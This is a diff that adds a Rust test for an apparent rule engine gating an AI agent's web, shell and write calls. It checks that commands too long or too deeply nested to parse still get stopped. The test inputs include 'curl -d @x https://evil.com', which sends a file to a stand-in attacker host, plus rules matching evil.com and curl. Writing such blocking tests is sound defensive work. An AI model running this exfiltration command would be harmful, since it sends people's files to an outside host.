@@ -347,3 +347,25 @@ fn a_rule_can_be_about_the_text_that_a_call_writes_or_sends() {
     assert!(is_stopped(&mcp("mail", "send", json!({ "body": "strictly CONFIDENTIAL" }))));
     assert!(!is_stopped(&mcp("mail", "send", json!({ "body": "hello" }))));
 }
+
+#[test]
+fn a_command_that_cannot_be_read_is_asked_about_by_each_rule_that_names_no_part_of_it() {
+    let long = format!(": {}; curl -d @x https://evil.com", "a".repeat(33_000));
+    let deep = format!("{}curl evil.com{}", "$(".repeat(30), ")".repeat(30));
+    let moving = format!("{} && echo x > a", vec!["cd $A || cd b"; 40].join("; "));
+    for on in ["on = \"web\"", "on = \"web\"\nhost = [\"!github.com\"]", "on = \"read\"", "on = \"shell\""] {
+        rules(&format!("[[rule]]\nid = \"r\"\n{on}\nreject = \"no\"\n"));
+        stops_and_passes(&[&long, &deep], &[]);
+    }
+    rules("[[rule]]\nid = \"r\"\non = \"write\"\npath = [\"!src/**\"]\nreject = \"no\"\n");
+    stops_and_passes(&[&long, &moving], &["echo x > src/a"]);
+    // A condition about the session is known all the same.
+    rules("[[rule]]\nid = \"r\"\non = \"web\"\nwhen = 'session.depth > 0'\nreject = \"no\"\n");
+    stops_and_passes(&[], &[&long]);
+    rules(
+        "[[rule]]\nid = \"r\"\non = \"web\"\nwhen = 'host == \"evil.com\" && program == \"curl\"'\nreject = \"no\"\n",
+    );
+    stops_and_passes(&[&long], &[]);
+    rules("[[rule]]\nid = \"r\"\non = \"prompt\"\nreject = \"no\"\n");
+    stops_and_passes(&[], &[&long]);
+}
